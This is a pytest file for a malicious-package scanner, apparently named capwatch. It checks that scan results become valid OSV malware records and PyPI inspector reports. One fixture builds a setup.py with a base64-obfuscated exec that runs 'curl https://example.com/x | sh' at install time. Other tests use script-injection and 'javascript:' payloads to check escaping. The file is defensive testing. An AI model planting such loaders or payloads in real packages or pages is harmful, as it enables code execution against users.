"""OSV records and observation bodies built from scan results."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta, timezone

import jsonschema
import pytest
from tests.helpers import sdist_bytes

from capwatch.engine import scan_bytes
from capwatch.model import (
    ArtifactInfo,
    ArtifactKind,
    Confidence,
    Ecosystem,
    Evidence,
    Finding,
    Location,
    Phase,
    ScanResult,
    Severity,
    Verdict,
)
from capwatch.service.osv import (
    DEFAULT_INSPECTOR_BASE_URL,
    RecordError,
    md_escape,
    observation_body,
    osv_record,
)

# The OSV 1.6 constraints a MAL record must meet, written from the specification
# (https://ossf.github.io/osv-schema/): required fields, RFC 3339 UTC times, affected packages with
# an ecosystem and a name, string versions, credit types from the spec's list.
_TIME = {"type": "string", "pattern": r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$", "format": "date-time"}
OSV_SHAPE = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "required": ["schema_version", "id", "modified", "published", "summary", "details", "affected"],
    "additionalProperties": False,
    "properties": {
        "schema_version": {"type": "string", "pattern": r"^1\.6\.\d+$"},
        "id": {"type": "string", "pattern": r"^MAL-\d{4}-\d+$"},
        "modified": _TIME,
        "published": _TIME,
        "summary": {"type": "string", "maxLength": 120},
        "details": {"type": "string"},
        "affected": {
            "type": "array",
            "minItems": 1,
            "items": {
                "type": "object",
                "required": ["package", "versions"],
                "additionalProperties": False,
                "properties": {
                    "package": {
                        "type": "object",
                        "required": ["ecosystem", "name"],
                        "additionalProperties": False,
                        "properties": {
                            "ecosystem": {"enum": ["PyPI", "npm"]},
                            "name": {"type": "string", "minLength": 1},
                            "purl": {"type": "string", "pattern": "^pkg:(pypi|npm)/"},
                        },
                    },
                    "versions": {"type": "array", "minItems": 1, "items": {"type": "string"}},
                    "database_specific": {"type": "object"},
                },
            },
        },
        "credits": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["name"],
                "properties": {
                    "name": {"type": "string"},
                    "contact": {"type": "array", "items": {"type": "string"}},
                    "type": {
                        "enum": [
                            "FINDER", "REPORTER", "ANALYST", "COORDINATOR", "REMEDIATION_DEVELOPER",
                            "REMEDIATION_REVIEWER", "REMEDIATION_VERIFIER", "TOOL", "SPONSOR", "OTHER",
                        ]
                    },
                },
            },
        },
        "database_specific": {"type": "object"},
    },
}

EVIL_SETUP = (
    "import base64\n"
    "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9leGFtcGxlLmNvbS94IHwgc2gnKQ=='))\n"
)
"""Runs ``curl https://example.com/x | sh`` at install time if ever run (it never is)."""

NOW = datetime(2026, 11, 21, 18, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def malicious() -> ScanResult:
    data = sdist_bytes({"setup.py": EVIL_SETUP}, top="evil_pkg-0.1")
    result = scan_bytes(data, "evil_pkg-0.1.tar.gz")
    assert result.verdict is Verdict.MALICIOUS
    return result


def _hand_made(**artifact: object) -> ScanResult:
    info = dict(path="x.tar.gz", sha256="ab" * 32, size=10, ecosystem=Ecosystem.PYPI,
                name="Bad_Pkg", version="1.0", kind=ArtifactKind.SDIST, container="tar.gz")
    info.update(artifact)
    hostile = "<script>alert(1)</script> [click](https://evil.example) `x` **bold**"
    finding = Finding(
        rule="CW999", title="Hostile *title*", severity=Severity.HIGH, confidence=Confidence.HIGH,
        phase=Phase.IMPORT, message=hostile,
        evidence=(Evidence(Location("bad_pkg-1.0/bad/__init__.py", 7), snippet="x = '```'\n<b>y</b>"),),
    )
    return ScanResult(artifact=ArtifactInfo(**info), verdict=Verdict.MALICIOUS, score=30.0,  # type: ignore[arg-type]
                      findings=(finding,))


def test_record_is_valid_osv(malicious: ScanResult) -> None:
    record = osv_record(malicious, record_id="MAL-2026-42", published=NOW, modified=NOW + timedelta(hours=1),
                        credits=["alice", " "], details_note="Confirmed by a reviewer.")
    jsonschema.validate(record, OSV_SHAPE, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    assert json.loads(json.dumps(record)) == record
    assert record["summary"] == "Malicious code in evil_pkg (PyPI)"
    assert record["published"] == "2026-11-21T18:00:00Z" and record["modified"] == "2026-11-21T19:00:00Z"
    affected = record["affected"][0]
    assert affected["package"] == {"ecosystem": "PyPI", "name": "evil_pkg", "purl": "pkg:pypi/evil-pkg"}
    assert affected["versions"] == ["0.1"]
    assert affected["database_specific"]["sha256"] == malicious.artifact.sha256
    assert record["credits"] == [{"name": "alice", "type": "FINDER"}]
    capwatch = record["database_specific"]["capwatch"]
    assert capwatch["verdict"] == "malicious" and "CW101" in capwatch["rules"]
    details = record["details"]
    assert details.startswith("Confirmed by a reviewer.")
    assert "**CW101**" in details and "phase: install" in details
    assert "`evil_pkg-0.1/setup.py:2`" in details


def test_times_are_converted_to_utc_and_naive_ones_refused(malicious: ScanResult) -> None:
    plus2 = datetime(2026, 1, 1, 12, 0, tzinfo=timezone(timedelta(hours=2)))
    record = osv_record(malicious, record_id="MAL-2026-1", published=plus2, modified=plus2)
    assert record["published"] == "2026-01-01T10:00:00Z"
    with pytest.raises(RecordError, match="no timezone"):
        osv_record(malicious, record_id="MAL-2026-1", published=datetime(2026, 1, 1), modified=NOW)


def test_invalid_id_and_unnamed_artifact_are_refused(malicious: ScanResult) -> None:
    with pytest.raises(RecordError, match="invalid OSV id"):
        osv_record(malicious, record_id="mal 1", published=NOW, modified=NOW)
    with pytest.raises(RecordError, match="no package name"):
        osv_record(_hand_made(name=None), record_id="MAL-2026-1", published=NOW, modified=NOW)
    with pytest.raises(RecordError, match="no known ecosystem"):
        observation_body(_hand_made(ecosystem=Ecosystem.UNKNOWN), inspector_base_url=DEFAULT_INSPECTOR_BASE_URL)


def test_npm_record_names_the_npm_ecosystem() -> None:
    record = osv_record(_hand_made(ecosystem=Ecosystem.NPM, name="@evil/pkg", kind=ArtifactKind.NPM_TARBALL),
                        record_id="MAL-2026-7", published=NOW, modified=NOW)
    assert record["affected"][0]["package"] == {"ecosystem": "npm", "name": "@evil/pkg", "purl": "pkg:npm/%40evil/pkg"}
    assert record["summary"] == "Malicious code in @evil/pkg (npm)"
    with pytest.raises(RecordError, match="PyPI"):
        observation_body(_hand_made(ecosystem=Ecosystem.NPM, name="@evil/pkg"), inspector_base_url=DEFAULT_INSPECTOR_BASE_URL)


def test_package_text_is_escaped_in_details() -> None:
    details = osv_record(_hand_made(), record_id="MAL-2026-3", published=NOW, modified=NOW)["details"]
    assert "<script>" not in details and "&lt;script&gt;" in details
    assert not re.search(r"(?<!\\)\]\(", details) and "\\[click\\]" in details
    assert "<b>y</b>" in details  # inside a fenced block, whose fence is longer than the ``` inside
    fence_lines = [line.strip() for line in details.splitlines() if line.strip().startswith("````")]
    assert fence_lines == ["````", "````"]
    assert md_escape("a*b_c <i> [x](y) 1.0") == "a\\*b\\_c &lt;i&gt; \\[x\\](y) 1.0"


def test_observation_links_the_release_in_the_inspector(malicious: ScanResult) -> None:
    body = observation_body(malicious, inspector_base_url="https://inspector.pypi.io/")
    assert body["kind"] == "is_malware"
    assert body["inspector_url"] == "https://inspector.pypi.io/project/evil-pkg/0.1/"
    assert "malicious" in body["summary"] and "CW10" in body["summary"]
    assert len(body["summary"]) <= 1000
    assert observation_body(malicious, inspector_base_url="https://i.example", summary="mine")["summary"] == "mine"


def test_observation_links_the_file_and_line_for_a_pypi_download(malicious: ScanResult) -> None:
    rest = "0123456789abcdef" * 3 + "0123456789ab"
    url = f"https://files.pythonhosted.org/packages/ab/cd/{rest}/evil_pkg-0.1.tar.gz"
    body = observation_body(malicious, inspector_base_url="https://inspector.pypi.io", download_url=url)
    assert re.fullmatch(
        rf"https://inspector\.pypi\.io/project/evil-pkg/0\.1/packages/ab/cd/{rest}/evil_pkg-0\.1\.tar\.gz/"
        r"evil_pkg-0\.1/setup\.py#line\.2",
        body["inspector_url"],
    ), body["inspector_url"]
    # A download from elsewhere (a private index) cannot be shown by the inspector file by file.
    other = observation_body(malicious, inspector_base_url="https://inspector.pypi.io",
                             download_url="http://127.0.0.1:1/packages/evil_pkg-0.1.tar.gz")
    assert other["inspector_url"] == "https://inspector.pypi.io/project/evil-pkg/0.1/"


def test_observation_refuses_a_non_http_inspector(malicious: ScanResult) -> None:
    with pytest.raises(RecordError, match="http"):
        observation_body(malicious, inspector_base_url="javascript:alert(1)")

